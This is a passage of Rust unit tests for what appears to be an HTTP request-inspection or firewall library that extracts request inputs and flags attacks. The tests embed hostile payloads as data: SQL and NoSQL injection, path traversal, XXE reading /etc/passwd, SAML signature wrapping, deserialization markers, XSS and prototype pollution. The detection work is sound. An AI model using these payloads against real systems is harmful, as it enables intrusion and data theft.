            .body(body.as_bytes());
        let x = extract(&req, &Limits::default(), None);
        let vals = labels(&x, Kind::Value);
        assert!(
            vals.contains(&(
                "query:filter:b64:/where".into(),
                "status='active') UNION SELECT 1--".into()
            )),
            "{vals:?}"
        );
        assert!(vals.contains(&("json:/key:b64".into(), "../../proc/self/environ".into())));
        assert!(
            labels(&x, Kind::Name).contains(&("json:/criteria:/token/$ne".into(), "$ne".into()))
        );
        // SAML: the DTD and the values, but not where the message goes and whom it is for.
        let decl = labels(&x, Kind::Declaration);
        assert_eq!(decl.len(), 1, "{decl:?}");
        assert_eq!(decl[0].0, "query:SAMLResponse:b64:!declaration");
        assert!(decl[0].1.contains("<!ENTITY % x SYSTEM"));
        assert!(vals.contains(&(
            "query:SAMLResponse:b64:/samlp:Response/saml:NameID".into(),
            "admin' OR '1'='1".into()
        )));
        assert!(
            !vals.iter().any(|(_, v)| v.contains("localhost")),
            "{vals:?}"
        );
        // A file's content of several lines is stored, not interpreted.
        assert!(!vals.iter().any(|(l, _)| l.starts_with("query:file:b64")));
    }

    #[test]
    fn operators_that_match_everything() {
        let anomalies = |req: RequestView<'_>| {
            extract(&req, &Limits::default(), None)
                .anomalies
                .iter()
                .filter(|a| a.rule == rules::SQLI_NOSQL)
                .map(|a| a.label.clone())
                .collect::<Vec<_>>()
        };
        let json = |body: &'static str| {
            anomalies(
                RequestView::new("POST", b"/v1/login")
                    .header("Content-Type", "application/json")
                    .body(body.as_bytes()),
            )
        };
        assert_eq!(json(r#"{"CustomId":{"$ne":null}}"#), ["json:/CustomId/$ne"]);
        assert_eq!(
            json(r#"{"filter":{"id":{"$gt":""}}}"#),
            ["json:/filter/id/$gt"]
        );
        assert_eq!(json(r#"{"name":{"$regex":".*"}}"#), ["json:/name/$regex"]);
        // Filters a client builds compare with values.
        for fine in [
            r#"{"filter":{"email":{"$ne":null}}}"#,
            r#"{"state":{"$ne":"closed"},"createdAt":{"$exists":true}}"#,
            r#"{"selector":{"ts":{"$gt":null}}}"#,
        ] {
            assert!(json(fine).is_empty(), "{fine}");
        }
        let query = |target: &'static [u8]| anomalies(RequestView::new("GET", target));
        assert_eq!(
            query(b"/v1/players?name[$gt]=&fields=name"),
            ["query:name[$gt]"]
        );
        assert!(query(b"/v1/items?price[$gt]=10").is_empty());
        assert!(query(b"/v1/items?filters[price][$gt]=").is_empty());
    }

    #[test]
    fn serialised_objects_whatever_their_type() {
        for body in [
            &b"AAEAAAD/////AQAAAAAAAAAMAgAAAElT"[..],
            b"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
        ] {
            let req = RequestView::new("PUT", b"/saves/slot/2")
                .header("Content-Type", "application/octet-stream")
                .body(body);
            let x = extract(&req, &Limits::default(), None);
            assert!(
                x.anomalies
                    .iter()
                    .any(|a| a.rule == rules::JAVA_DESERIALISATION)
            );
        }
    }

    #[test]
    fn split_markup_needs_a_tag() {
        let combined = |target: &'static [u8]| {
            labels(
                &extract(&RequestView::new("GET", target), &Limits::default(), None),
                Kind::Combined,
            )
            .len()
        };
        assert_eq!(combined(b"/?q=%3Cimg%20src=x&b=%20onerror=alert(1)%3E"), 1);
        assert_eq!(combined(b"/v1/catalog?filter=runtime%3C120&lang=en"), 0);
    }

    #[test]
    fn saml_signature_wrapping() {
        use base64::Engine as _;
        let posted = |xml: &str| {
            let body = format!(
                "SAMLResponse={}&RelayState=%2Fhome",
                base64::engine::general_purpose::STANDARD
                    .encode(xml)
                    .replace('+', "%2B")
                    .replace('/', "%2F")
                    .replace('=', "%3D")
            );
            let req = RequestView::new("POST", b"/saml/acs")
                .header("Content-Type", "application/x-www-form-urlencoded")
                .body(body.as_bytes());
            let x = extract(&req, &Limits::default(), None);
            x.anomalies
                .iter()
                .filter(|a| a.rule == rules::PROTO_SAML_WRAPPING)
                .count()
        };
        let assertion = |id: &str, who: &str| {
            format!(
                "<saml:Assertion ID=\"{id}\"><saml:Subject><saml:NameID>{who}</saml:NameID></saml:Subject></saml:Assertion>"
            )
        };
        let open = "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\">";
        let one = format!(
            "{open}{}</samlp:Response>",
            assertion("a1", "ada@corp.example")
        );
        assert_eq!(posted(&one), 0);
        let two = format!(
            "{open}{}<ds:Object>{}</ds:Object></samlp:Response>",
            assertion("evil", "admin@corp.example"),
            assertion("a1", "ada@corp.example")
        );
        assert_eq!(posted(&two), 1);
        let comment = format!(
            "{open}<!-- signed by the IdP -->{}</samlp:Response>",
            assertion("a1", "admin@corp.example<!---->.evil.example")
        );
        assert_eq!(posted(&comment), 1);
        for split in [
            "admin@corp.example<!----><!---->.evil.example",
            "admin@corp.example<!----><![CDATA[.evil.example]]>",
            "<![CDATA[admin@corp.example]]><!---->.evil.example",
        ] {
            let doc = format!("{open}{}</samlp:Response>", assertion("a1", split));
            assert_eq!(posted(&doc), 1, "{split}");
        }
        let encrypted = format!(
            "{open}{}<saml:EncryptedAssertion>x</saml:EncryptedAssertion></samlp:Response>",
            assertion("a1", "ada@corp.example")
        );
        assert_eq!(posted(&encrypted), 1);
        // Other XML in base64 (an attachment) is stored, and read for its DTD alone.
        let page = "<html><body><button onclick=\"t()\">Go</button></body></html>";
        let body = format!(
            r#"{{"content":"{}"}}"#,
            base64::engine::general_purpose::STANDARD.encode(page)
        );
        let req = RequestView::new("POST", b"/v3/mail/send")
            .header("Content-Type", "application/json")
            .body(body.as_bytes());
        let x = extract(&req, &Limits::default(), None);
        assert!(x.anomalies.is_empty(), "{:?}", x.anomalies);
        assert!(
            !labels(&x, Kind::Value)
                .iter()
                .any(|(l, _)| l.contains("b64:/"))
        );
    }

    #[test]
    fn deflated_saml_messages_of_the_redirect_binding() {
        use base64::Engine as _;
        let deflate = |xml: &str| {
            let raw = miniz_oxide::deflate::compress_to_vec(xml.as_bytes(), 6);
            base64::engine::general_purpose::STANDARD
                .encode(raw)
                .replace('+', "%2B")
                .replace('/', "%2F")
                .replace('=', "%3D")
        };
        let request = |xml: &str| {
            let target = format!("/idp/SSO?SAMLRequest={}&RelayState=x", deflate(xml));
            let req = RequestView::new("GET", target.as_bytes());
            labels(&extract(&req, &Limits::default(), None), Kind::Declaration)
        };
        let decl = request(
            r#"<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><samlp:AuthnRequest><saml:Issuer>&x;</saml:Issuer></samlp:AuthnRequest>"#,
        );
        assert_eq!(decl.len(), 1, "{decl:?}");
        assert_eq!(decl[0].0, "query:SAMLRequest:deflate:!declaration");
        assert!(decl[0].1.contains("<!ENTITY x SYSTEM"));
        // An ordinary request has no declaration; neither has a value that does not inflate.
        assert!(request("<samlp:AuthnRequest ID=\"a1\"/>").is_empty());
        // A `+` left unencoded (read as a space) is still base64's.
        let xxe = r#"<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
        let plus = (0..64)
            .map(|i| format!("{xxe}<!-- {i} -->"))
            .find(|x| deflate(x).contains("%2B"))
            .expect("a deflated form with a `+`");
        let target = format!(
            "/idp/SSO?SAMLRequest={}",
            deflate(&plus).replace("%2B", "+")
        );
        let x = extract(
            &RequestView::new("GET", target.as_bytes()),
            &Limits::default(),
            None,
        );
        assert_eq!(labels(&x, Kind::Declaration).len(), 1);
        let req = RequestView::new("GET", b"/idp/SSO?SAMLRequest=bm90IGRlZmxhdGVkIGF0IGFsbA");
        assert!(labels(&extract(&req, &Limits::default(), None), Kind::Declaration).is_empty());
        // Inflating stops at its cap, and the declarations before it are read: padding after
        // a DTD does not hide it, and one past the cap is not inflated.
        let padding = " ".repeat(SAML_INFLATED_MAX * 4);
        let padded =
            format!("<!DOCTYPE r [<!ENTITY x SYSTEM \"http://e.example/\">]>{padding}<r/>");
        assert_eq!(request(&padded).len(), 1);
        assert!(request(&format!("{padding}<!DOCTYPE r []><r/>")).is_empty());
    }

    #[test]
    fn json_documents_in_application_headers() {
        let req = RequestView::new("GET", b"/")
            .header("X-Filter", r#"{"owner":{"$ne":null},"q":"x"}"#)
            .header("Traceparent", r#"{"a":"b"}"#);
        let x = extract(&req, &Limits::default(), None);
        assert!(
            labels(&x, Kind::Name).contains(&("header:x-filter:/owner/$ne".into(), "$ne".into()))
        );
        assert!(labels(&x, Kind::Value).contains(&("header:x-filter:/q".into(), "x".into())));
        // A structured header's value is not read as a document.
        assert!(
            !labels(&x, Kind::Value)
                .iter()
                .any(|(l, _)| l.starts_with("header:traceparent:"))
        );
    }

    #[test]
    fn application_headers_are_inspected_as_values() {
        assert!(
            STRUCTURED_HEADERS.windows(2).all(|w| w[0] < w[1]),
            "sorted, for the binary search"
        );
        let req = RequestView::new("GET", b"/")
            .header("X-Tenant-Id", "acme")
            .header("X-Api-Version", "2")
            .header("x-amz-meta-note", "hello")
            .header("Accept-Language", "en")
            .header("X-Request-Id", "r1")
            .header("X-Forwarded-Host", "shop.example")
            .header("x-amz-date", "20240101T000000Z")
            .header("X-Filename", "a.txt")
            .header("Sec-Fetch-Mode", "cors")
            .header("X-Forwarded-User", "tanaka")
            .header("Content-Language", "de-DE' AND 1=1")
            .header("Content-Dir", "php://filter/resource=x");
        let x = extract(&req, &Limits::default(), None);
        let values: Vec<String> = labels(&x, Kind::HeaderValue)
            .into_iter()
            .map(|l| l.0)
            .collect();
        assert_eq!(
            values,
            [
                "header:x-tenant-id",
                "header:x-api-version",
                "header:x-amz-meta-note",
                "header:x-forwarded-user",
                "header:content-language",
                "header:content-dir"
            ]
        );
        let other: Vec<String> = labels(&x, Kind::OtherHeader)
            .into_iter()
            .map(|l| l.0)
            .collect();
        assert_eq!(
            other,
            [
                "header:accept-language",
                "header:x-request-id",
                "header:x-forwarded-host",
                "header:x-amz-date",
                "header:x-filename",
                "header:sec-fetch-mode"
            ]
        );
    }

    #[test]
    fn documents_inside_cookies_are_read() {
        use base64::Engine as _;
        let b64 = |t: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(t);
        let cookie = format!(
            "prefs=%7B%22sort%22%3A%22name%20asc%22%7D; uid=j%3A%7B%22id%22%3A%227%22%7D; s={}; t={}; bin={}; jwt={}.{}.sig; short={}",
            b64(r#"{"uid":"7' and 1=1","n":[1,"x y"]}"#),
            b64("plain text inside"),
            base64::engine::general_purpose::STANDARD
                .encode([0u8, 159, 146, 150, 1, 2, 3, 4, 5, 6, 7, 8, 9]),
            b64(r#"{"alg":"none"}"#),
            b64(r#"{"sub":"x"}"#),
            b64("ab"),
        );
        let req = RequestView::new("GET", b"/").header("Cookie", &cookie);
        let x = extract(&req, &Limits::default(), None);
        let values = labels(&x, Kind::Value);
        assert!(values.contains(&("cookie:prefs:/sort".into(), "name asc".into())));
        assert!(values.contains(&("cookie:uid:/id".into(), "7".into())));
        assert!(values.contains(&("cookie:s:b64:/uid".into(), "7' and 1=1".into())));
        assert!(values.contains(&("cookie:s:b64:/n/1".into(), "x y".into())));
        let cookies = labels(&x, Kind::CookieValue);
        assert!(cookies.contains(&("cookie:t:b64".into(), "plain text inside".into())));
        // Binary, a JWT and a value too short to carry a payload stay as they came.
        for name in ["bin", "jwt", "short"] {
            assert!(
                !x.inputs
                    .iter()
                    .any(|i| i.label.starts_with(&format!("cookie:{name}:"))),
                "{name}"
            );
        }
    }

    #[test]
    fn extracts_cookies_and_xml() {
        let req = RequestView::new("POST", b"/")
            .header("Cookie", "session=abc; theme=dark")
            .header("Content-Type", "application/xml")
            .body(b"<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"s.xsl#>\"?><root><a probe=\"x y\">text</a><b/></root>");
        let x = extract(&req, &Limits::default(), None);
        assert!(labels(&x, Kind::CookieValue).contains(&("cookie:session".into(), "abc".into())));
        let vals = labels(&x, Kind::Value);
        assert!(vals.contains(&("xml:/?xml-stylesheet@href".into(), "s.xsl#>".into())));
        assert!(
            !vals.iter().any(|(l, _)| l.contains("@version")),
            "{vals:?}"
        );
        assert!(
            vals.contains(&("xml:/root/a@probe".into(), "x y".into())),
            "{vals:?}"
        );
        assert!(
            vals.contains(&("xml:/root/a".into(), "text".into())),
            "{vals:?}"
        );
        assert!(x.anomalies.is_empty(), "{:?}", x.anomalies);
    }

    #[test]
    fn xml_elements_that_pollute_prototypes() {
        let polluted = |body: &[u8]| anomaly_labels("application/xml", body, rules::NODE_PROTOTYPE);
        assert_eq!(
            polluted(b"<root><__proto__><isAdmin>true</isAdmin></__proto__></root>"),
            ["xml:/root/__proto__"]
        );
        assert_eq!(
            polluted(b"<a><constructor><prototype><x>1</x></prototype></constructor></a>"),
            ["xml:/a/constructor/prototype"]
        );
        assert!(polluted(b"<car><prototype>yes</prototype></car>").is_empty());
    }

    #[test]
    fn survives_hostile_bodies() {
        for (ct, body) in [
            ("multipart/form-data; boundary=a", &b"--a\r\n--a\r\n--a"[..]),
            (
                "multipart/form-data; boundary=a",
                b"--a\r\nContent-Disposition: form-data; name=\"\\",
            ),
            ("application/xml", b"<<<>>><![CDATA[<!--<?"),
            ("application/xml", b"<a b=\"c"),
            ("application/json", b"{\"a\":"),
        ] {
            let req = RequestView::new("POST", b"/")
                .header("Content-Type", ct)
                .body(body);
            let _ = extract(&req, &Limits::default(), None);
        }
    }

    #[test]
    fn disposition_values_keep_what_follows_their_quote() {
        let params = |v: &str| disposition_params(v.as_bytes());
        assert_eq!(
            params("form-data; name=\"a\" ; filename=\"b.txt\""),
            [
                ("name".into(), b"a".to_vec()),
                ("filename".into(), b"b.txt".to_vec())
            ]
        );
        assert_eq!(
            params("form-data; name=\"f\"; filename=\"\"><svg onload=alert(1)>.png\""),
            [
                ("name".into(), b"f".to_vec()),
                ("filename".into(), b"><svg onload=alert(1)>.png\"".to_vec())
            ]
        );
    }
}
